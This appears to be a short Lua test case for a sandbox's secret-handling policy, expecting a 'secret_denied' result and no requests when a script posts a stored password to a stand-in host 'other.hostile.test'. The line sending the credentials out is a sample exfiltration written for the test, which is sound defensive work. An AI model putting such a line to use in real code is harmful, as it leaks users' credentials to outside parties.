-- A secret to a host declared with secrets = false.
-- expect: policy.secret_denied
-- within: 400 ms
-- hosts: { 'other.hostile.test', secrets = false },
-- requests: 0
local s = ...
pcall(s.post, s, "https://other.hostile.test/echo", { form = { p = s.credentials.password } })
return s:get("/ok")
